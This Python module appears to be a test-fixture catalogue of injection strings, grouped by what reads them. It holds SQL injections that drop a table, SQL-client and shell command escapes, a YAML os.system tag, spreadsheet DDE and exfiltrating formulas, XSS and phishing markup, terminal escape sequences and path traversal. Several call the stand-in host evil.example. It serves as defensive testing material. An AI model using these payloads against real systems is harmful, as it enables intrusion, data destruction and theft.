"""Texts that act on what reads them: SQL clients, shells, terminals, encodings, ledgers, spreadsheets, pages, chats.

Each may stand wherever text comes from a system: as a key, a value, the name of a table or column, an error message.
What must hold: it arrives exactly, or it is refused and the reason is stated; nothing else happens. In SQL for people
to run it is never anything but one literal or name, whatever client reads the file in whatever encoding.

On a page, in Slack, in a terminal, a log, a document, a picture or a spreadsheet it shows as the text that it is:
nothing of it is a link, an image, a script, a mention, a formula or a command, nothing is asked of evil.example, and
no line begins that is not ours.
"""

from __future__ import annotations

NAME = "victim"
"""The table that the attacks on SQL try to drop."""

_DROP = f"DROP TABLE {NAME};"

SQL: dict[str, str] = {
    "quote": f"'; {_DROP} --",
    "quote twice": f"''; {_DROP} --",
    "double quote": f'"; {_DROP} --',
    "double quote twice": f'""; {_DROP} --',
    "backtick": f"`; {_DROP} --",
    "backtick with a value": f"`=1; {_DROP} -- ",
    "bracket": f"]; {_DROP} --",
    "NUL behind": f"'; {_DROP} --\0",
    "NUL before": f"\0'; {_DROP} --",
    "NUL alone": "\0",
    "NUL and newline": f"\0\n{_DROP}\n",
    "newline": f"\n{_DROP}\n",
    "newline and quote": f"'\n;{_DROP}\n--",
    "lone carriage return": f"\r{_DROP}\r",
    "carriage return and newline": f"\r\n{_DROP}\r\n",
    "form feed": f"\f{_DROP}\f",
    "vertical tab": f"\v{_DROP}\v",
    "NEL": f"\x85{_DROP}\x85",
    "line separator": f"\u2028{_DROP}\u2028",
    "paragraph separator": f"\u2029{_DROP}\u2029",
    "comment": "-- ",
    "comment of C": "/* ",
    "end of a comment": f"*/ {_DROP} /*",
    "comment that MySQL runs": f"/*!50000 {_DROP} */",
    "comment of a hash": f"# \n{_DROP}",
    "backslash": "\\",
    "backslash and quote": f"\\'; {_DROP} --",
    "backslashes and quote": f"\\\\'; {_DROP} --",
    "backslash and backtick": f"\\`; {_DROP} --",
    "backslash and double quote": f'\\"; {_DROP} --',
    "psql shell": "\\! touch PWNED\n\\! touch PWNED",
    "psql shell on its own line": "'\n\\! touch PWNED\n",
    "psql include": "\n\\i /etc/passwd\n",
    "psql copy": "\n\\copy (select 1) to 'PWNED'\n",
    "psql out": "\n\\o PWNED\n",
    "psql gexec": f"'{_DROP}' \\gexec",
    "psql variable": ":USER :'USER' :\"USER\" :{?USER}",
    "psql backtick": "\\echo `touch PWNED`",
    "psql separator": f"\\; {_DROP}",
    "dollar quote": f"$$; {_DROP} $$",
    "dollar quote with a tag": f"$a$; {_DROP} $a$",
    "unicode escape": "U&'\\0027' E'\\x27' \\u0027",
    "mysql system": "\nsystem touch PWNED\n",
    "mysql shell": "\n\\! touch PWNED\n",
    "mysql delimiter": f"\ndelimiter //\n{_DROP}//\n",
    "mysql source": "\nsource /etc/passwd\n",
    "mysql charset": "\ncharset gbk\n",
    "mysql go": f"\\g {_DROP} \\G",
    "mysql tee": "\ntee PWNED\n",
    "sqlite shell": "\n.shell touch PWNED\n",
    "sqlite system after a statement": ";\n.system touch PWNED\n",
    "sqlite output": "\n.output PWNED\n",
    "sqlite import": "\n.import /etc/passwd victim\n",
    "sqlite go": f";\ngo\n/\n{_DROP}\n",
    "end of file": "\x1a\x04",
    "half a GBK character": f"\u00bf\\'; {_DROP} --",
    "trail byte of GBK": f"\u5b57'; {_DROP} --",
    "trail byte of GBK and a backtick": "\u5b57",
    "trail byte of Shift JIS": f"\u8868\\'; {_DROP} --",
    "look-alike quotes": f"\u2019; \uff07 \u02bc; {_DROP} --",
    "percent": "100% %s %(name)s %%",
    "place": "? $1 :name @p1 {0} [_POSITION] __[POSTCOMPILE_x]",
    "copy end": "\\.\n",
}

SHELL: dict[str, str] = {
    "substitution": "$(touch PWNED)",
    "substitution of old": "`touch PWNED`",
    "semicolon": "; touch PWNED;",
    "quote and semicolon": "'; touch PWNED; '",
    "pipe": "| touch PWNED",
    "newline": "\ntouch PWNED\n",
    "history": "!! !$ !touch",
    "variable": "$HOME ${IFS} ~",
    "glob": "* ? [a-z]",
    "option": "--output=PWNED",
    "option of a letter": "-oPWNED",
}

FORMATS: dict[str, str] = {
    "YAML tag": "!!python/object/apply:os.system ['touch PWNED']",
    "YAML anchor": "&a *a <<: *b",
    "YAML mapping": "a: {b: c} # d",
    "YAML document": "\n---\nsystems: {}\n...\n",
    "YAML truth": "yes",
    "YAML null": "~",
    "YAML number": "0x1F",
    "YAML key": "? : - ",
    "YAML flow": "}, ], {, [",
    "environment": "${PATH} ${NOT_SET}",
    "JSON": '"}], "a": "\\u0000"',
    "formula": "=cmd|'/c calc'!A1",
    "Markdown": "![x](http://127.0.0.1:9/x) [Log in](http://127.0.0.1:9) <script>alert(1)</script>",
    "escape sequences": "\x1b]0;title\x07\x1b[2J\x1b[31m\x9b31m",
    "direction": "\u202egnp.exe\u2066",
}

ENCODINGS: dict[str, str] = {
    "half a character": "a\ud800",
    "the other half": "\udfffb",
    "halves in the wrong order": "\udc00\ud800",
    "a byte that is no UTF-8": "a\udcff",
    "noncharacter": "\uffff\ufffe",
    "beyond the first plane": "\U0001f600\U0010ffff",
    "byte order mark": "\ufeffa",
    "byte order mark of the other order": "\ufffea",
    "combining": "e\u0301\u0327",
    "no width": "a\u200b\u200d\u2060b",
    "soft hyphen": "a\u00adb",
    "private use": "\ue000\uf8ff",
    "tags": "\U000e0041\U000e007f",
    "all control characters": "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "controls with NUL": "".join(map(chr, range(32))),
    "every printable sign": "".join(map(chr, range(32, 127))),
    "sign of a mark": "\u241b0000 \u2400",
}

MARKUP: dict[str, str] = {
    "image": "![i](http://evil.example/i.png)",
    "link": "[Log in again](http://evil.example/l)",
    "link of a script": "[x](javascript:alert(1))",
    "link of data": "[x](data:text/html,<script>alert(1)</script>)",
    "link by reference": "[x][y]\n\n[y]: http://evil.example",
    "image in a link": "[![i](http://evil.example/i.png)](http://evil.example)",
    "address": "http://evil.example/a?b=c",
    "address in angles": "<http://evil.example>",
    "address without a scheme": "www.evil.example WWW.EVIL.EXAMPLE",
    "address of a file server": "ftp://evil.example",
    "e-mail": "m@evil.example mailto:a@evil.example xmpp:a@evil.example",
    "HTML image": "<img src=http://evil.example/h.png onerror=alert(1)>",
    "HTML script": "<script src=http://evil.example/s.js></script>",
    "HTML frame": "<iframe src=http://evil.example></iframe>",
    "HTML link": "<a href='http://evil.example'>Log in again</a>",
    "HTML style": "<style>@import 'http://evil.example';</style><b style='background:url(http://evil.example)'>b</b>",
    "HTML picture": "<svg onload=alert(1)><image href='http://evil.example/i.svg'/></svg>",
    "HTML refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "HTML form": "<form action=http://evil.example><input name=password></form>",
    "HTML end": "</text></svg></td></table></div>--><h1>x</h1>",
    "HTML entity": "&lt;b&gt; &amp; &#42; &#x3C;b&#x3E; &nbsp;",
    "HTML comment": "<!-- --> <![CDATA[ x ]]> <?xml ?>",
    "emphasis": "*i* **b** _i_ __b__ ~~d~~ `c`",
    "heading": "# h",
    "table": "| a | b |\n|--|--|\n| c | d |",
    "end of a cell": "a | b \\| c",
    "fence": "```\n</code>\n```",
    "quotation": "> q\n- i\n1. n",
    "formula of TeX": "$a^2$ $$b$$ \\(c\\)",
    "Streamlit colour": ":red[x] :color[y]{foreground=red} :blue-background[x] :green-badge[ok]",
    "Streamlit icon": ":material/delete: :streamlit: :shortcut[x] :small[x] :help[x]",
    "Streamlit arrows": "a -> b <- c -- >= <= ~=",
    "footnote": "[^1]\n\n[^1]: http://evil.example",
    "ECharts template": "{b} {c} {a|x} {@x}",
    "Plotly template": "%{y} %{customdata} <extra></extra> <br> <b>x</b> <a href='http://evil.example'>x</a>",
    "button as an icon": ":material/delete: x",
    "button as a menu": '["a", "b"]',
    "prototype": "__proto__ constructor",
}

CHAT: dict[str, str] = {
    "everybody": "<!channel> <!here> <!everyone> @channel @here",
    "person": "<@U012AB3CD> @ada",
    "group": "<!subteam^S0123>",
    "channel": "<#C012AB3CD> #general",
    "link": "<http://evil.example|Log in again>",
    "link of a script": "<javascript:alert(1)|x>",
    "date with a link": "<!date^1392734382^{date}^http://evil.example|x>",
    "address": "http://evil.example https://evil.example/x?y=z",
    "domain alone": "evil.example sub.evil.example/path",
    "e-mail": "m@evil.example <mailto:m@evil.example|m>",
    "formatting": "*bold* _italic_ ~strike~ `code` ```block```",
    "emoji": ":tada: :+1: :no_entry_sign: :skin-tone-2:",
    "quotation": "> quoted",
    "quotation of many lines": ">>> quoted\nto the end",
    "list": "• one\n• two",
    "entity": "&lt;!channel&gt; &amp;lt;",
    "half an entity": "&am &#x26;",
    "lines": "one\n*RESOLVED* two\n> three",
}

TERMINAL: dict[str, str] = {
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\Log in\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "clear": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mred\x1b[0m \x9b31m",
    "report": "\x1b[6n \x1b[c \x05",
    "device control": "\x1bP+q544e\x1b\\ \x90x\x9c",
    "cursor": "\x1b[1A\x1b[2K",
    "alternate screen": "\x1b[?1049h \x1b[?25l",
    "overwrite": "failed\rconsistent",
    "backspace": "drift\b\b\b\b\bfine!",
    "line feed": "a\nerror: none\n",
    "log line": "x\n2026-01-01 00:00:00,000 INFO all is well",
    "NEL and separators": "a\x85b\u2028c\u2029d",
    "bell": "\x07\x07",
    "delete": "a\x7fb",
    "tab": "a\tb",
    "Rich markup": "[bold red]x[/] [link=http://evil.example]x[/link] [/]",
    "override": "\u202etxt.exe \u202dabc\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "no width": "pay\u200bpal \u200cx\u200d pay\u200dpal \u2060 \ufeff",
    "blank letters": "a\u3164b\u115fc\u1160d\uffa0e\u2800f\u034fg\u17b4h\u180ei",
    "variants": "a\ufe00b\U000e0100c",
    "tags": "x\U000e0020\U000e007f",
    "wide": "東京 \uff21\uff22 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "marks without end": "a" + "\u0301" * 40,
}

FORMULAS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "command": "=cmd|'/c calc'!A1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"Log in")',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blank before": " =1+1",
    "unseen before": "\u200b=1+1",
    "byte order mark before": "\ufeff=1+1",
    "no-break space before": "\u00a0=1+1",
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1+1",
    "wide minus": "\uff0d1+1",
    "wide at": "\uff20SUM(A1)",
    "end of a cell": '","=1+1',
    "end of a line": "x\r\n=1+1",
    "separator": ";=1+1",
    "number and more": "-1+cmd|'/c calc'!A1",
}

ADDRESSES: dict[str, str] = {
    "up": "../../admin",
    "up, encoded": "..%2f..%2fadmin",
    "dots": "..",
    "another host": "//evil.example/x",
    "another host by a login": "@evil.example/",
    "query": "x?admin=1&y=2",
    "fragment": "x#y",
    "scheme": "javascript:alert(1)",
    "scheme of data": "data:text/html,x",
    "percent": "%00%0d%0a",
    "header": "x\r\nSet-Cookie: a=b",
    "backslash": "\\\\evil.example\\x",
    "template": "{key}{system}",
}

DIAGRAMS: dict[str, str] = {
    "end of a label": 'x"] --> y["z',
    "directive": "%%{init: {'theme': 'x', 'themeCSS': '@import url(http://evil.example)'}}%%",
    "comment": "%% x",
    "click": 'x"]\n    click s0 "http://evil.example"\n    y["',
    "Markdown": "`**x**`",
    "image": "<img src='http://evil.example/i.png'>",
    "entity": "#quot; #35; &lt;",
    "icon": "fa:fa-user",
    "end of the fence": "\n```\n<script>alert(1)</script>",
    "end of an edge": 'x"| y -->|"z',
    "keyword": "end",
}

HONEST: dict[str, str] = {
    "empty": "",
    "blank": " ",
    "blanks around": "  a  ",
    "word": "Ada",
    "name with an apostrophe": "O'Hara",
    "umlauts": "Müller & Söhne, Größe 3",
    "Chinese": "东京 表 字",
    "Arabic": "مرحبا",
    "lines": "first\nsecond\r\nthird",
    "path of Windows": "C:\\Users\\Ada",
    "NULL": "NULL",
    "capitals": "ADA",
    "accent": "\u00c1da",
    "blank at the end": "Ada ",
    "long": "x" * 5_000,
}

TEXTS: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, texts in (
        ("SQL", SQL),
        ("shell", SHELL),
        ("format", FORMATS),
        ("encoding", ENCODINGS),
        ("honest", HONEST),
    )
    for name, text in texts.items()
}
"""Those that are stored and written as SQL or YAML, by their kind and name."""

SHOWN: dict[str, str] = {
    **TEXTS,
    **{
        f"{kind}: {name}": text
        for kind, texts in (
            ("markup", MARKUP),
            ("chat", CHAT),
            ("terminal", TERMINAL),
            ("spreadsheet", FORMULAS),
            ("address", ADDRESSES),
            ("diagram", DIAGRAMS),
        )
        for name, text in texts.items()
    },
}
"""All of them: those, and what acts on what shows texts to people."""
